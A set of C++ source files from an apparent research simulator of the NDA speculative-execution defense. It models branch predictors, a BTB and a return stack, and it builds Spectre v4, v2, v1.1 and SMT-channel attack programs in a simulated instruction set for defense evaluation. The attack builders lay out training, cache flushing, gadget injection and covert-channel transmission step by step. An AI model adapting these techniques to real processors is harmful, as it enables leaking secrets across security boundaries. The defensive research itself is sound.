    entries_ = snap.entries;
    useClock_ = snap.useClock;
    hits_ = snap.hits;
    misses_ = snap.misses;
    updates_ = snap.updates;
}

Btb::Entry *
Btb::find(Addr pc)
{
    const unsigned set = setIndex(pc);
    const Addr tag = tagOf(pc);
    Entry *base = &entries_[static_cast<std::size_t>(set) * params_.ways];
    for (unsigned w = 0; w < params_.ways; ++w) {
        if (base[w].valid && base[w].tag == tag)
            return &base[w];
    }
    return nullptr;
}

const Btb::Entry *
Btb::findConst(Addr pc) const
{
    return const_cast<Btb *>(this)->find(pc);
}

std::optional<Addr>
Btb::lookup(Addr pc)
{
    ++useClock_;
    if (Entry *e = find(pc)) {
        e->lastUse = useClock_;
        ++hits_;
        return e->target;
    }
    ++misses_;
    return std::nullopt;
}

std::optional<Addr>
Btb::probe(Addr pc) const
{
    if (const Entry *e = findConst(pc))
        return e->target;
    return std::nullopt;
}

void
Btb::update(Addr pc, Addr target)
{
    ++useClock_;
    ++updates_;
    if (Entry *e = find(pc)) {
        e->target = target;
        e->lastUse = useClock_;
        return;
    }
    const unsigned set = setIndex(pc);
    Entry *base = &entries_[static_cast<std::size_t>(set) * params_.ways];
    Entry *victim = &base[0];
    for (unsigned w = 0; w < params_.ways; ++w) {
        if (!base[w].valid) {
            victim = &base[w];
            break;
        }
        if (base[w].lastUse < victim->lastUse)
            victim = &base[w];
    }
    victim->valid = true;
    victim->tag = tagOf(pc);
    victim->target = target;
    victim->lastUse = useClock_;
}

void
Btb::invalidate(Addr pc)
{
    if (Entry *e = find(pc))
        e->valid = false;
}

void
Btb::reset()
{
    for (auto &e : entries_)
        e.valid = false;
    useClock_ = 0;
}

void
Btb::registerStats(StatsRegistry &reg, const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("hits", &hits_, "lookups that hit");
    g.counter("misses", &misses_, "lookups that missed");
    g.counter("updates", &updates_,
              "installs/refreshes (at execution; never reverted)");
    g.formula("hit_rate",
              [this] {
                  const std::uint64_t total = hits_ + misses_;
                  return total ? static_cast<double>(hits_) /
                                     static_cast<double>(total)
                               : 0.0;
              },
              "hits / lookups");
}

} // namespace nda
