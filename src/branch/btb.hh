/**
 * @file
 * Branch Target Buffer. 4096 entries (Table 3), set-associative,
 * tagged by branch PC.
 *
 * Security-relevant property (paper §3, Fig 5): updates performed by
 * *speculative, later-squashed* branch executions are NOT reverted —
 * the BTB is a covert channel. The simulator deliberately updates the
 * BTB at branch execution, not commit.
 */

#ifndef NDASIM_BRANCH_BTB_HH
#define NDASIM_BRANCH_BTB_HH

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** BTB parameters. */
struct BtbParams {
    unsigned entries = 4096;
    unsigned ways = 4;
    /**
     * Partial-tag width in bits, as in real BTBs. Branches whose PCs
     * agree in set index and partial tag alias — the mechanism
     * Spectre-v2-style target injection exploits.
     */
    unsigned tagBits = 16;
};

/** Set-associative branch target buffer with LRU replacement. */
class Btb
{
  public:
    explicit Btb(const BtbParams &p = {});

    struct Entry {
        Addr tag = 0;
        Addr target = 0;
        bool valid = false;
        std::uint64_t lastUse = 0;

        bool operator==(const Entry &) const = default;
    };

    /** Complete table state for warming checkpoints. */
    struct Snapshot {
        std::vector<Entry> entries;
        std::uint64_t useClock = 0;
        std::uint64_t hits = 0;
        std::uint64_t misses = 0;
        std::uint64_t updates = 0;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot save() const;
    void restore(const Snapshot &snap);

    /** Predicted target for the branch at pc, if present. */
    std::optional<Addr> lookup(Addr pc);

    /** Lookup without touching LRU (for tests). */
    std::optional<Addr> probe(Addr pc) const;

    /** Install/refresh pc -> target (called at branch *execution*). */
    void update(Addr pc, Addr target);

    /** Invalidate the entry for pc, if any (for tests). */
    void invalidate(Addr pc);

    void reset();

    std::uint64_t hits() const { return hits_; }
    std::uint64_t misses() const { return misses_; }
    void resetStats() { hits_ = 0; misses_ = 0; updates_ = 0; }

    /** Bind hits/misses/updates + hit_rate under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    unsigned setIndex(Addr pc) const
    {
        return static_cast<unsigned>(pc % numSets_);
    }
    Addr
    tagOf(Addr pc) const
    {
        const Addr full = pc / numSets_;
        return params_.tagBits >= 64
                   ? full
                   : full & ((Addr{1} << params_.tagBits) - 1);
    }

    Entry *find(Addr pc);
    const Entry *findConst(Addr pc) const;

    BtbParams params_;
    unsigned numSets_;
    std::vector<Entry> entries_;
    std::uint64_t useClock_ = 0;
    std::uint64_t hits_ = 0;
    std::uint64_t misses_ = 0;
    std::uint64_t updates_ = 0; ///< installs/refreshes (at execution)
};

} // namespace nda

#endif // NDASIM_BRANCH_BTB_HH
