#include "branch/ras.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Ras::Ras(unsigned entries)
    : stack_(entries, 0)
{
}

Ras::Snapshot
Ras::save() const
{
    return Snapshot{stack_, topIdx_, pushes_, pops_};
}

void
Ras::restore(const Snapshot &snap)
{
    NDA_ASSERT(snap.stack.size() == stack_.size(),
               "ras snapshot geometry mismatch (%zu vs %zu entries)",
               snap.stack.size(), stack_.size());
    stack_ = snap.stack;
    topIdx_ = snap.topIdx;
    pushes_ = snap.pushes;
    pops_ = snap.pops;
}

Ras::Checkpoint
Ras::checkpoint() const
{
    Checkpoint ckpt;
    ckpt.top = topIdx_;
    // A push would overwrite the slot above the current top.
    ckpt.overwritten = stack_[(topIdx_ + 1) % stack_.size()];
    return ckpt;
}

void
Ras::restore(const Checkpoint &ckpt)
{
    stack_[(ckpt.top + 1) % stack_.size()] = ckpt.overwritten;
    topIdx_ = ckpt.top;
}

void
Ras::push(Addr return_pc)
{
    ++pushes_;
    topIdx_ = (topIdx_ + 1) % static_cast<unsigned>(stack_.size());
    stack_[topIdx_] = return_pc;
}

Addr
Ras::pop()
{
    ++pops_;
    const Addr target = stack_[topIdx_];
    topIdx_ = (topIdx_ + static_cast<unsigned>(stack_.size()) - 1) %
              static_cast<unsigned>(stack_.size());
    return target;
}

void
Ras::reset()
{
    std::fill(stack_.begin(), stack_.end(), 0);
    topIdx_ = 0;
}

void
Ras::registerStats(StatsRegistry &reg, const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("pushes", &pushes_, "speculative call pushes at fetch");
    g.counter("pops", &pops_, "speculative return pops at fetch");
}

} // namespace nda
