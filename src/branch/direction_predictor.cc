#include "branch/direction_predictor.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

DirectionPredictor::DirectionPredictor(const DirectionPredictorParams &p)
    : params_(p)
{
    const std::size_t entries = std::size_t{1} << params_.tableBits;
    indexMask_ = static_cast<unsigned>(entries - 1);
    historyMask_ = params_.historyBits >= 64
                       ? ~std::uint64_t{0}
                       : (std::uint64_t{1} << params_.historyBits) - 1;
    gshare_.assign(entries, 1);   // weakly not-taken (gem5-style init)
    bimodal_.assign(entries, 1);
    chooser_.assign(entries, 2);  // weakly prefer gshare
}

DirectionPredictor::Snapshot
DirectionPredictor::save() const
{
    return Snapshot{gshare_,  bimodal_,  chooser_,
                    history_, predicts_, gshareChosen_};
}

void
DirectionPredictor::restore(const Snapshot &snap)
{
    NDA_ASSERT(snap.gshare.size() == gshare_.size(),
               "direction-predictor snapshot geometry mismatch "
               "(%zu vs %zu entries)",
               snap.gshare.size(), gshare_.size());
    gshare_ = snap.gshare;
    bimodal_ = snap.bimodal;
    chooser_ = snap.chooser;
    history_ = snap.history;
    predicts_ = snap.predicts;
    gshareChosen_ = snap.gshareChosen;
}

unsigned
DirectionPredictor::gshareIndex(Addr pc, std::uint64_t history) const
{
    return static_cast<unsigned>((pc ^ history) & indexMask_);
}

unsigned
DirectionPredictor::bimodalIndex(Addr pc) const
{
    return static_cast<unsigned>(pc & indexMask_);
}

bool
DirectionPredictor::predict(Addr pc)
{
    const bool g = counterTaken(gshare_[gshareIndex(pc, history_)]);
    const bool b = counterTaken(bimodal_[bimodalIndex(pc)]);
    const bool use_gshare = counterTaken(chooser_[bimodalIndex(pc)]);
    const bool taken = use_gshare ? g : b;
    ++predicts_;
    if (use_gshare)
        ++gshareChosen_;
    pushHistory(taken);
    return taken;
}

void
DirectionPredictor::pushHistory(bool taken)
{
    history_ = ((history_ << 1) | (taken ? 1 : 0)) & historyMask_;
}

void
DirectionPredictor::update(Addr pc, bool taken,
                           std::uint64_t history_at_predict)
{
    const unsigned gi = gshareIndex(pc, history_at_predict);
    const unsigned bi = bimodalIndex(pc);
    const bool g_correct = counterTaken(gshare_[gi]) == taken;
    const bool b_correct = counterTaken(bimodal_[bi]) == taken;
    if (g_correct != b_correct)
        chooser_[bi] = counterUpdate(chooser_[bi], g_correct);
    gshare_[gi] = counterUpdate(gshare_[gi], taken);
    bimodal_[bi] = counterUpdate(bimodal_[bi], taken);
}

void
DirectionPredictor::reset()
{
    std::fill(gshare_.begin(), gshare_.end(), 1);
    std::fill(bimodal_.begin(), bimodal_.end(), 1);
    std::fill(chooser_.begin(), chooser_.end(), 2);
    history_ = 0;
}

void
DirectionPredictor::registerStats(StatsRegistry &reg,
                                  const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("predicts", &predicts_, "direction predictions made");
    g.counter("gshare_chosen", &gshareChosen_,
              "predictions where the chooser picked gshare");
}

} // namespace nda
