/**
 * @file
 * Tournament direction predictor: gshare + bimodal with a chooser,
 * 2-bit saturating counters. History is updated speculatively at
 * predict time and restored from checkpoints on squash; pattern
 * tables are trained at branch commit only (wrong-path outcomes
 * never train the tables).
 */

#ifndef NDASIM_BRANCH_DIRECTION_PREDICTOR_HH
#define NDASIM_BRANCH_DIRECTION_PREDICTOR_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Parameters for the tournament predictor. */
struct DirectionPredictorParams {
    unsigned tableBits = 12;    ///< log2 entries in each table
    unsigned historyBits = 12;  ///< global history length
};

/** Tournament (gshare + bimodal) conditional-branch predictor. */
class DirectionPredictor
{
  public:
    explicit DirectionPredictor(const DirectionPredictorParams &p = {});

    /** Complete table + history state for warming checkpoints. */
    struct Snapshot {
        std::vector<std::uint8_t> gshare;
        std::vector<std::uint8_t> bimodal;
        std::vector<std::uint8_t> chooser;
        std::uint64_t history = 0;
        std::uint64_t predicts = 0;
        std::uint64_t gshareChosen = 0;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot save() const;
    void restore(const Snapshot &snap);

    /** Predict the branch at `pc` and speculatively shift history. */
    bool predict(Addr pc);

    /** Current speculative global history (for checkpointing). */
    std::uint64_t history() const { return history_; }

    /** Restore speculative history (squash recovery). */
    void restoreHistory(std::uint64_t h) { history_ = h; }

    /**
     * Append an outcome to the speculative history without a predict
     * call (used when re-steering past a recovered branch).
     */
    void pushHistory(bool taken);

    /** Train tables with the committed outcome of the branch at pc. */
    void update(Addr pc, bool taken, std::uint64_t history_at_predict);

    void reset();

    std::uint64_t predicts() const { return predicts_; }
    std::uint64_t gshareChosen() const { return gshareChosen_; }
    void resetStats() { predicts_ = 0; gshareChosen_ = 0; }

    /** Bind predicts/gshare_chosen under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    unsigned gshareIndex(Addr pc, std::uint64_t history) const;
    unsigned bimodalIndex(Addr pc) const;

    static bool counterTaken(std::uint8_t c) { return c >= 2; }
    static std::uint8_t
    counterUpdate(std::uint8_t c, bool taken)
    {
        if (taken)
            return c < 3 ? c + 1 : 3;
        return c > 0 ? c - 1 : 0;
    }

    DirectionPredictorParams params_;
    unsigned indexMask_;
    std::uint64_t historyMask_;
    std::vector<std::uint8_t> gshare_;
    std::vector<std::uint8_t> bimodal_;
    std::vector<std::uint8_t> chooser_; ///< >=2 selects gshare
    std::uint64_t history_ = 0;
    std::uint64_t predicts_ = 0;     ///< predict() calls
    std::uint64_t gshareChosen_ = 0; ///< chooser picked gshare
};

} // namespace nda

#endif // NDASIM_BRANCH_DIRECTION_PREDICTOR_HH
