/**
 * @file
 * Return Address Stack, 16 entries (Table 3). Pushed/popped
 * speculatively at fetch; each speculative branch records a small
 * checkpoint so squash can restore the stack exactly (ret2spec-style
 * mis-steering then arises only from *architectural* call/return
 * mismatches, as in the paper's threat model).
 */

#ifndef NDASIM_BRANCH_RAS_HH
#define NDASIM_BRANCH_RAS_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Fixed-depth circular return-address stack. */
class Ras
{
  public:
    /** Snapshot sufficient to undo any single push or pop. */
    struct Checkpoint {
        unsigned top = 0;
        Addr overwritten = 0; ///< entry clobbered by a subsequent push
    };

    explicit Ras(unsigned entries = 16);

    /** Complete stack state for warming checkpoints (unlike
     *  Checkpoint, which only undoes a single push/pop). */
    struct Snapshot {
        std::vector<Addr> stack;
        unsigned topIdx = 0;
        std::uint64_t pushes = 0;
        std::uint64_t pops = 0;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot save() const;
    void restore(const Snapshot &snap);

    /** Capture state before a speculative push/pop. */
    Checkpoint checkpoint() const;

    /** Restore a previously captured checkpoint. */
    void restore(const Checkpoint &ckpt);

    /** Push a return address (speculative, at fetch of a call). */
    void push(Addr return_pc);

    /** Pop the predicted return target (speculative, at fetch of ret). */
    Addr pop();

    /** Peek without popping. */
    Addr top() const { return stack_[topIdx_]; }

    void reset();

    unsigned capacity() const { return static_cast<unsigned>(stack_.size()); }

    std::uint64_t pushes() const { return pushes_; }
    std::uint64_t pops() const { return pops_; }
    void resetStats() { pushes_ = 0; pops_ = 0; }

    /** Bind pushes/pops under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    std::vector<Addr> stack_;
    unsigned topIdx_ = 0;
    std::uint64_t pushes_ = 0;  ///< speculative call pushes
    std::uint64_t pops_ = 0;    ///< speculative return pops
};

} // namespace nda

#endif // NDASIM_BRANCH_RAS_HH
