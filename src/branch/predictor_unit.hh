/**
 * @file
 * Front-end branch prediction unit: composes the tournament direction
 * predictor, the BTB, and the RAS, and owns the checkpoint/restore
 * protocol used on squash.
 */

#ifndef NDASIM_BRANCH_PREDICTOR_UNIT_HH
#define NDASIM_BRANCH_PREDICTOR_UNIT_HH

#include <cstdint>

#include "branch/btb.hh"
#include "branch/direction_predictor.hh"
#include "branch/ras.hh"
#include "common/types.hh"
#include "isa/microop.hh"

namespace nda {

/** Combined speculative-state checkpoint taken before each branch. */
struct BpCheckpoint {
    std::uint64_t history = 0;
    Ras::Checkpoint ras;
};

/** Outcome of predicting one branch at fetch. */
struct BranchPrediction {
    Addr nextPc = 0;
    bool taken = false;       ///< meaningful for conditional branches
    bool fromBtb = false;     ///< target came from a BTB hit
    bool btbMiss = false;     ///< indirect branch missed in the BTB
    BpCheckpoint ckpt;        ///< state before this branch's updates
};

/** Parameters of the whole predictor unit. */
struct PredictorParams {
    DirectionPredictorParams direction;
    BtbParams btb;
    unsigned rasEntries = 16;
};

/** Fetch-side predictor with squash-recovery support. */
class PredictorUnit
{
  public:
    explicit PredictorUnit(const PredictorParams &p = {});

    /** Complete predictor state (direction tables + BTB + RAS) for
     *  warming checkpoints (core/snapshot.hh). */
    struct Snapshot {
        DirectionPredictor::Snapshot direction;
        Btb::Snapshot btb;
        Ras::Snapshot ras;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot
    save() const
    {
        return Snapshot{direction_.save(), btb_.save(), ras_.save()};
    }

    /** Restore all three structures; geometry must match (asserted). */
    void
    restore(const Snapshot &snap)
    {
        direction_.restore(snap.direction);
        btb_.restore(snap.btb);
        ras_.restore(snap.ras);
    }

    /**
     * Predict the branch `uop` at `pc` and apply speculative state
     * updates (history shift, RAS push/pop).
     */
    BranchPrediction predict(const MicroOp &uop, Addr pc);

    /** Snapshot current speculative state without predicting (used
     *  for non-predicted branches in speculation-off windows). */
    BpCheckpoint capture() const;

    /** Undo speculative state back to before a branch's predict(). */
    void restore(const BpCheckpoint &ckpt);

    /**
     * After restore() of a resolved-mispredicted branch, re-apply its
     * *actual* outcome so younger fetch sees consistent state.
     */
    void applyResolved(const MicroOp &uop, Addr pc, bool taken,
                       Addr next_pc);

    /** Train the direction tables at branch commit. */
    void commitUpdate(const MicroOp &uop, Addr pc, bool taken,
                      std::uint64_t history_at_predict);

    /**
     * Install pc -> target at branch *execution* (speculative; never
     * reverted — this is the paper's BTB covert channel).
     */
    void btbUpdate(Addr pc, Addr target) { btb_.update(pc, target); }

    DirectionPredictor &direction() { return direction_; }
    Btb &btb() { return btb_; }
    Ras &ras() { return ras_; }

    /** Bind direction/btb/ras stats under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

    void reset();

  private:
    DirectionPredictor direction_;
    Btb btb_;
    Ras ras_;
};

} // namespace nda

#endif // NDASIM_BRANCH_PREDICTOR_UNIT_HH
