#include "branch/predictor_unit.hh"

#include "common/log.hh"

namespace nda {

PredictorUnit::PredictorUnit(const PredictorParams &p)
    : direction_(p.direction), btb_(p.btb), ras_(p.rasEntries)
{
}

BranchPrediction
PredictorUnit::predict(const MicroOp &uop, Addr pc)
{
    const OpTraits &t = uop.traits();
    NDA_ASSERT(t.isBranch, "predict() on non-branch %s",
               t.mnemonic.data());

    BranchPrediction pred;
    pred.ckpt.history = direction_.history();
    pred.ckpt.ras = ras_.checkpoint();

    if (t.isCondBranch) {
        pred.taken = direction_.predict(pc);
        pred.nextPc = pred.taken ? static_cast<Addr>(uop.imm) : pc + 1;
        return pred;
    }

    if (!t.isIndirect) {
        // Direct jmp/call: target known at decode, never mispredicts.
        pred.taken = true;
        pred.nextPc = static_cast<Addr>(uop.imm);
        if (t.isCall)
            ras_.push(pc + 1);
        return pred;
    }

    // Indirect branches.
    pred.taken = true;
    if (t.isReturn) {
        pred.nextPc = ras_.pop();
    } else {
        if (auto target = btb_.lookup(pc)) {
            pred.nextPc = *target;
            pred.fromBtb = true;
        } else {
            // No target available: predict fall-through; the resulting
            // mispredict models the front-end stalling until resolve.
            pred.nextPc = pc + 1;
            pred.btbMiss = true;
        }
        if (t.isCall)
            ras_.push(pc + 1);
    }
    return pred;
}

BpCheckpoint
PredictorUnit::capture() const
{
    BpCheckpoint ckpt;
    ckpt.history = direction_.history();
    ckpt.ras = ras_.checkpoint();
    return ckpt;
}

void
PredictorUnit::restore(const BpCheckpoint &ckpt)
{
    direction_.restoreHistory(ckpt.history);
    ras_.restore(ckpt.ras);
}

void
PredictorUnit::applyResolved(const MicroOp &uop, Addr pc, bool taken,
                             Addr next_pc)
{
    (void)next_pc;
    const OpTraits &t = uop.traits();
    if (t.isCondBranch) {
        direction_.pushHistory(taken);
        return;
    }
    if (t.isReturn) {
        ras_.pop();
        return;
    }
    if (t.isCall)
        ras_.push(pc + 1);
}

void
PredictorUnit::commitUpdate(const MicroOp &uop, Addr pc, bool taken,
                            std::uint64_t history_at_predict)
{
    if (uop.traits().isCondBranch)
        direction_.update(pc, taken, history_at_predict);
}

void
PredictorUnit::reset()
{
    direction_.reset();
    btb_.reset();
    ras_.reset();
}

void
PredictorUnit::registerStats(StatsRegistry &reg,
                             const std::string &prefix) const
{
    direction_.registerStats(reg, prefix + ".direction");
    btb_.registerStats(reg, prefix + ".btb");
    ras_.registerStats(reg, prefix + ".ras");
}

} // namespace nda
