/**
 * @file
 * Spectre v4 — Speculative Store Bypass (paper §4.1). A store whose
 * address arrives late is bypassed by a younger load to the same
 * address, which reads the stale (secret) value and transmits it
 * before the memory-order violation squashes the wrong path. NDA's
 * Bypass Restriction (paper §5.2) marks the bypassing load unsafe
 * until every bypassed store resolves.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Attacker-visible slot the victim scrubs: holds the stale secret. */
constexpr Addr kStaleAddr = kVictimBase + 0x400;
/** Pointer cell whose (flushed) load delays the store address. */
constexpr Addr kPtrSlot = kVictimBase + 0x500;
} // namespace

Program
SpectreSsb::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v4-ssb");
    declareChannelSegments(b);
    b.segment(kStaleAddr, {secret});
    b.word(kPtrSlot, kStaleAddr);

    // Warm the stale line so the bypassing load completes inside the
    // window; flush the pointer cell so the store address is late.
    b.movi(1, static_cast<std::int64_t>(kStaleAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);
    b.movi(20, static_cast<std::int64_t>(kPtrSlot));
    b.clflush(20, 0);
    b.fence();

    // Victim snippet: scrub the secret, then re-read the slot.
    b.movi(19, 0);
    b.load(21, 20, 0, 8);            // slow: store address dependency
    b.store(21, 0, 19, 1);           // [kStaleAddr] = 0, address late
    b.movi(22, static_cast<std::int64_t>(kStaleAddr));
    b.load(23, 22, 0, 1);            // (1) bypasses the store -> stale
    emitCacheTransmit(b, 23);        // (2) transmit before the squash
    b.fence();

    // (3) recover.
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

void
SpectreSsb::declareSecrets(SecretMap &secrets) const
{
    // The secret lives in the stale (to-be-scrubbed) store slot, not
    // the shared victim-array location.
    secrets.addMemRange(kStaleAddr, 1, "stale-store-slot");
}

bool
SpectreSsb::expectedBlocked(const SecurityConfig &cfg) const
{
    // Plain propagation policies do NOT block SSB (Table 2 rows 1, 3);
    // Bypass Restriction, load restriction, or InvisiSpec-Future do.
    return cfg.bypassRestriction || cfg.loadRestriction ||
           cfg.invisiSpec == InvisiSpecMode::kFuture;
}

} // namespace nda
