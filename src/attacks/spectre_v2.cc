/**
 * @file
 * Spectre v2 — indirect branch target injection. The attacker trains
 * an indirect branch in its own code that aliases the victim's
 * indirect call in the BTB (same set index and partial tag), planting
 * a transmit gadget as the predicted target. The victim's call then
 * speculatively executes the gadget with attacker-prepared register
 * contents before the real target resolves.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Victim function-pointer slot (flushed to widen the window). */
constexpr Addr kFpSlot = kVictimBase + 0x600;
/** Attacker-owned dummy byte + dummy probe used while training. */
constexpr Addr kDummyData = kVictimBase + 0x700;
constexpr Addr kDummyProbe = 0x6000000;
/** BTB geometry the attack assumes: 1024 sets x 4-bit partial tag. */
constexpr Addr kAliasDistance = 1024 << 4;
} // namespace

void
SpectreV2::adjustConfig(SimConfig &cfg) const
{
    // Model a BTB with a short partial tag (as on real hardware),
    // which makes cross-code aliasing practical.
    cfg.core.predictor.btb.tagBits = 4;
}

Program
SpectreV2::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v2");
    declareChannelSegments(b);
    b.segment(kSecretAddr, {secret});
    b.zeroSegment(kDummyData, 64);
    b.zeroSegment(kDummyProbe, 256 * kProbeStride);

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- transmit gadget G: load [r21 + r22], transmit via [r23] --------
    const Addr gadget_pc = b.here();
    b.add(13, 21, 22);
    b.load(14, 13, 0, 1);            // (1) access
    b.shli(15, 14, 9);
    b.add(16, 23, 15);
    b.load(17, 16, 0, 1);            // (2) transmit
    b.ret(28);

    // --- legit target L ----------------------------------------------------
    const Addr legit_pc = b.here();
    b.ret(28);
    b.word(kFpSlot, legit_pc);

    // --- victim: indirect call through the (slow) function pointer ------
    auto victim = b.label();
    b.movi(19, static_cast<std::int64_t>(kFpSlot));
    b.load(20, 19, 0, 8);            // flushed -> resolves late
    const Addr victim_callr_pc = b.here();
    b.callr(28, 20);                 // predicted from the aliased entry
    b.ret(30);

    const Addr alias_pc = victim_callr_pc + kAliasDistance;

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);

    // Benign gadget arguments while training (attacker's own data).
    b.movi(21, static_cast<std::int64_t>(kDummyData));
    b.movi(22, 0);
    b.movi(23, static_cast<std::int64_t>(kDummyProbe));

    // Train: execute the attacker's aliasing indirect jump 4 times.
    // The nop padding that positions the jump is never executed; the
    // loop jumps straight to the aliasing branch.
    b.movi(18, 0);
    b.movi(27, static_cast<std::int64_t>(gadget_pc));
    b.movi(28, static_cast<std::int64_t>(alias_pc + 1));
    auto train_top = b.label();
    auto alias_label = b.futureLabel();
    b.jmp(alias_label);
    b.padToPc(alias_pc);
    b.bind(alias_label);
    b.jmpr(27);                      // BTB[alias] <- gadget
    // The gadget's `ret r28` returns here (alias_pc + 1).
    b.addi(18, 18, 1);
    b.movi(5, 4);
    b.blt(18, 5, train_top);

    // Arm the gadget registers with the secret's location, flush the
    // probe and the victim's function pointer, then fire once.
    b.movi(21, static_cast<std::int64_t>(kSecretAddr));
    b.movi(22, 0);
    b.movi(23, static_cast<std::int64_t>(kProbeBase));
    emitProbeFlush(b);
    b.movi(1, static_cast<std::int64_t>(kFpSlot));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    b.fence();

    // (3) recover.
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

bool
SpectreV2::expectedBlocked(const SecurityConfig &cfg) const
{
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
