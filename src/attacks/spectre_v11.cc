/**
 * @file
 * Spectre v1.1 — speculative buffer overflow (Kiriansky & Waldspurger,
 * paper Table 1). Under a mis-trained bounds check, a *wrong-path
 * store* overwrites a function pointer; a following load forwards the
 * attacker's value from the store queue and an indirect call steers
 * wrong-path execution into a transmit gadget. The architectural
 * pointer is never modified — the overwrite lives only in the SQ.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Function-pointer slot the wrong-path store overwrites. */
constexpr Addr kFpSlot = kVictimBase + 0xA00;
} // namespace

Program
SpectreV11::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1.1");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- transmit gadget G: read the secret and leak it ------------------
    const Addr gadget_pc = b.here();
    b.movi(13, static_cast<std::int64_t>(kSecretAddr));
    b.load(14, 13, 0, 1);            // (1) access
    emitCacheTransmit(b, 14);        // (2) transmit
    b.ret(28);

    // --- benign target the pointer architecturally holds ----------------
    const Addr benign_pc = b.here();
    b.ret(28);
    b.word(kFpSlot, benign_pc);

    // --- victim(x in r10): bounds-checked *store* then dispatch ---------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // bound (flushed -> slow)
    b.bgeu(10, 12, vend);            // trained in-bounds
    // Wrong path: buf[x] = attacker value. With x = kFpSlot - buf the
    // store lands on the function pointer (the "buffer overflow").
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.movi(9, static_cast<std::int64_t>(gadget_pc));
    b.store(13, 0, 9, 8);            // speculative overwrite
    b.movi(15, static_cast<std::int64_t>(kFpSlot));
    b.load(16, 15, 0, 8);            // forwards gadget_pc from the SQ
    b.callr(28, 16);                 // steered into G
    b.bind(vend);
    b.ret(30);

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);

    // Train in-bounds 32 times, then attack with x pointing the store
    // at the function-pointer slot.
    b.movi(18, 0);
    auto train = b.label();
    b.movi(5, 32);
    b.cmpeq(3, 18, 5);
    b.muli(4, 3,
           static_cast<std::int64_t>(kFpSlot - kVictimArray) - 5);
    b.addi(10, 4, 5);                // x = 5 or (kFpSlot - buf)
    b.movi(1, static_cast<std::int64_t>(kBoundAddr));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    b.addi(18, 18, 1);
    b.movi(5, 33);
    b.blt(18, 5, train);
    b.fence();

    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

bool
SpectreV11::expectedBlocked(const SecurityConfig &cfg) const
{
    // Control-steering attack on a memory secret with a d-cache
    // transmit: the same coverage row as Spectre v1 (Table 2).
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
