#include "attacks/smt_channel.hh"

#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {

/** Spin iterations before a rendezvous is abandoned. */
constexpr std::int64_t kSpinTimeout = 200000;

} // namespace

Program
buildSmtAttackProgram(ProgramBuilder &b, std::uint8_t secret,
                      const SmtWindowPlan &plan, const SmtGadgetBody &gadget,
                      const SmtTimedProbe &probe)
{
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});
    b.zeroSegment(kSmtSyncBase, 512);

    const int windows = plan.totalWindows();

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim_fn(x in r10), link in r30 -------------------------------
    // The classic bounds-check-bypass skeleton; the attack-specific
    // burst lives in the wrong path behind the flushed bound.
    auto victim_fn = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // bound (flushed: resolves late)
    b.bgeu(10, 12, vend);            // trained not-taken; steered here
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.load(14, 13, 0, 1);            // access: secret = array[x]
    gadget(b, vend);                 // transmit: contend iff bit == want
    b.bind(vend);
    b.ret(30);

    // --- victim window loop (thread 0) ----------------------------------
